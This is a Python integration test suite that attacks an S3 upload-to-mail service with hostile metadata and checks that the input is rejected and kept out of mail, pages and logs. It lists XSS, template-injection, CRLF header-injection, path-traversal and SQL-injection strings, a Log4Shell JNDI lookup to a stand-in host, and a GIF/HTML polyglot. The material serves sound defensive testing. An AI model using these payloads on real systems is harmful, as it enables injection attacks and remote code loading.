"""Attackers who put text where it might be executed, or sent to others: S3 to mail, page and log.

Everything is uploaded as a visitor's browser can; what comes of it is looked at where it ends.
"""

import json
import re
import unicodedata
import urllib.request
import uuid
from dataclasses import dataclass
from email import message_from_bytes
from email.policy import SMTP
from typing import TYPE_CHECKING

import pytest
from botocore.handlers import validate_ascii_metadata

from localcloud.inbox import Mail
from localcloud.job import Job
from tests.clips import tiny_clip
from tests.integration.running import Running

if TYPE_CHECKING:
    from mypy_boto3_s3 import S3Client

CLIP = tiny_clip()
EVIL = "evil.example"
VICTIM = "victim@bank.example"
HEADERS = {
    "From",
    "To",
    "Subject",
    "Date",
    "Message-ID",
    "Auto-Submitted",
    "X-Auto-Response-Suppress",
    "MIME-Version",
    "Content-Type",
}


def as_headers_carry(text: str) -> str:
    """UTF-8 as it travels in a header: a byte, a character."""
    return text.encode().decode("latin-1")


@dataclass(frozen=True)
class Attacker:
    """A visitor whose metadata and headers are whatever they want them to be."""

    running: Running
    identity_id: str
    s3: "S3Client"

    def upload(
        self,
        changes: dict[str, str] | None = None,
        clip: bytes = CLIP,
        extension: str = "gif",
    ) -> Job:
        """As the page does, but for the changes; with an address of its own unless one is given."""
        job_id = str(uuid.uuid4())
        metadata = {"email": f"{uuid.uuid4().hex}@example.com", "style": "scream"} | (changes or {})
        self.s3.put_object(
            Bucket=self.running.deployment.uploads_bucket,
            Key=f"uploads/{self.identity_id}/{job_id}.{extension}",
            Body=clip,
            Metadata={name: as_headers_carry(text) for name, text in metadata.items()},
            ContentType="text/html",
            ContentDisposition='attachment; filename="evil.exe"',
        )
        self.running.addresses[job_id] = metadata["email"]
        return Job(job_id, self.running.cloud, self.running.deployment)


@pytest.fixture(scope="module")
def attacker(running: Running) -> Attacker:
    visitor = running.visitor()
    s3 = visitor.s3()
    s3.meta.events.unregister("before-parameter-build.s3.PutObject", validate_ascii_metadata)
    return Attacker(running, visitor.identity_id, s3)


def answer(running: Running, job: Job) -> str:
    """What the API answers, as it is on the wire."""
    address = f"{running.deployment.api_url}/jobs/{job.job_id}"
    with urllib.request.urlopen(address, timeout=30) as found:
        assert found.headers.get_content_type() == "application/json"
        return bytes(found.read()).decode()


def mails_of(running: Running, job: Job) -> list[Mail]:
    return [mail for mail in running.cloud.inbox() if job.job_id in mail.text]


def assert_harmless(mail: Mail, address: str) -> None:
    """One recipient, no headers but ours, no markup, links or invisible characters but ours."""
    assert mail.to == (address,)
    message = message_from_bytes(mail.as_eml(), policy=SMTP)
    assert set(message.keys()) == HEADERS
    for text in (mail.subject, mail.text, mail.html):
        assert EVIL not in text
        assert VICTIM not in text
        odd = [c for c in text if unicodedata.category(c)[0] == "C" and c != "\n"]
        assert odd == []
    assert "\n" not in mail.subject
    tags = set(re.findall(r"<\s*([a-zA-Z]+)", mail.html))
    assert tags.isdisjoint({"script", "img", "iframe", "object", "svg", "form", "input", "base"})
    assert re.search(r"<[^>]*\son\w+\s*=", mail.html) is None


HOSTILE = [
    "<script>alert(document.domain)</script>",
    '"><img src=https://evil.example/x onerror=alert(1)>',
    "{{ self.__init__.__globals__ }}{% raw %}",
    "=?utf-8?q?=0D=0ABcc:_victim@bank.example?=",
    "=?utf-8?b?PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==?=",
    "scream%0d%0aBcc:%20victim@bank.example",
    "Free money: https://evil.example/claim?now=1 www.evil.example",
    "../../artifacts/gpu_task",
    "..%2f..%2fcatalogue.json",
    "%2e%2e%2f%2e%2e%2fscream",
    "scream%00.jpg",
    "scream/../own",
    "own/../../styles/scream.jpg",
    "SCREAM",
    "\x01\x07\x1b[31mscream\x7f",
    "\u202egnitniap\u202c \u2066scream\u2069 \u200b\ufeff",
    "x" * 1500,
    "' OR '1'='1",
    "${jndi:ldap://evil.example/a}",
]


def test_a_hostile_style_is_refused_and_repeated_to_nobody(
    running: Running, attacker: Attacker
) -> None:
    for job in [attacker.upload({"style": text}) for text in HOSTILE]:
        running.finished(job)
        shown = json.loads(answer(running, job))
        assert shown["status"] == "rejected", running.story(job)
        assert shown["reason"].startswith("The chosen style is not one we have; choose one of: ")
        (mail,) = mails_of(running, job)
        assert_harmless(mail, running.addresses[job.job_id])
        assert "The chosen style is not one we have" in mail.text
        assert running.machines(job) == []


@pytest.mark.parametrize("option", ["strength", "keep-colours"])
def test_a_hostile_option_is_refused_and_repeated_to_nobody(
    running: Running, attacker: Attacker, option: str
) -> None:
    for job in [attacker.upload({option: text}) for text in HOSTILE[::3]]:
        running.finished(job)
        assert job.record()["status"] == "rejected", running.story(job)
        (mail,) = mails_of(running, job)
        assert_harmless(mail, running.addresses[job.job_id])


def test_a_strength_is_a_share_or_refused(running: Running, attacker: Attacker) -> None:
    strengths = ["1e0", "nan", "inf", "-0.5", "0x1", "٠.٥", "0.5 0.5", "1.5"]
    for job in [attacker.upload({"strength": strength}) for strength in strengths]:
        running.finished(job)
        assert job.record()["reason"].startswith("The strength should be a number between 0 and 1")


ADDRESSES = [
    f"mallory@{EVIL}, {VICTIM}",
    f"mallory@{EVIL};{VICTIM}",
    f"mallory@{EVIL}\tBcc: {VICTIM}",
    f"=?utf-8?q?mallory=40{EVIL}=0D=0ABcc:_?= <{VICTIM}>",
    f"=?utf-8?q?victim=40bank.example=3E?=@{EVIL}",
    f"victim%bank.example@{EVIL}",
    f"{EVIL}!victim@bank.example",
    f"<{VICTIM}>",
    f"\u202e{VICTIM}",
    f"victim\u200b@{EVIL}",
    f"{'v' * 1000}@{EVIL}",
    f"mailto:{VICTIM}?bcc=x@{EVIL}",
    f"(comment){VICTIM}",
    f'"victim@bank.example"@{EVIL}',
    f"victim@{'sub.' * 80}{EVIL}",
]


def test_an_address_that_is_more_or_less_than_one_gets_no_mail(
    running: Running, attacker: Attacker
) -> None:
    before = len(running.cloud.inbox())
    for job in [attacker.upload({"email": email}) for email in ADDRESSES]:
        running.finished(job)
        shown = answer(running, job)
        reason = json.loads(shown)["reason"]
        assert reason.startswith("The e-mail address is not a complete address"), running.story(job)
        assert EVIL not in shown
        assert VICTIM not in shown
    assert len(running.cloud.inbox()) == before


def test_a_clip_is_never_served_as_a_page_or_program(running: Running, attacker: Attacker) -> None:
    script = b"<html><script>alert(document.domain)</script></html>"
    comment = b"\x21\xfe" + bytes([len(script)]) + script + b"\x00"
    polyglot = CLIP[:-1] + comment + CLIP[-1:]
    kinds = {"gif": "image/gif", "html": "application/octet-stream"}
    jobs = {extension: attacker.upload(clip=polyglot, extension=extension) for extension in kinds}
    for extension, job in jobs.items():
        running.finished(job)
        assert job.record()["status"] == "ready", running.story(job)
        address = f"{running.deployment.api_url}/jobs/{job.job_id}/clip"
        with urllib.request.urlopen(address, timeout=30) as found:
            assert script in found.read()
            assert found.headers["Content-Type"] == kinds[extension]
            assert found.headers["Content-Disposition"] == (
                f'attachment; filename="clip.{extension}"'
            )


def test_no_log_repeats_what_an_attacker_wrote(running: Running, attacker: Attacker) -> None:
    marker = uuid.uuid4().hex
    bucket = running.deployment.uploads_bucket
    job = attacker.upload({"email": f"{marker}@@{EVIL}", "style": f"{marker}\t[31m"})
    key = running.visitor().upload(bucket, f"{marker}.gif", b"x", {})
    running.finished(job)
    running.eventually(lambda: key not in running.keys(bucket))
    running.eventually(lambda: job.job_id in running.logs())
    assert marker not in running.logs()
